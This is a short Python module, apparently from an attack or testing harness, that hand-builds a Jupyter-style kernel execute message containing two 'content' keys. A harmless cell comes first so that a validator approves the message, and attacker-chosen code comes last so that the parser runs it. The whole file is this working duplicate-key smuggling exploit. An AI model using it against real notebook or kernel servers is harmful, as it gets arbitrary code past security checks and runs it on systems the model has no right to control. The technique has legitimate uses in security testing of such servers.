"""A cell with two contents in one JSON text: whoever judged the first would let the last one run."""

from __future__ import annotations

import json

from attack_house import Client, cell


def strike(client: Client, code: str) -> str:
    header = client.execute_header()
    parts = [f'"{name}": {json.dumps(value)}' for name, value in (
        ("header", header), ("parent_header", {}), ("metadata", {}), ("channel", "shell"), ("buffers", []),
        ("content", cell("1")), ("content", cell(code)),
    )]  # fmt: skip
    client.socket.send("{" + ", ".join(parts) + "}")
    return str(header["msg_id"])
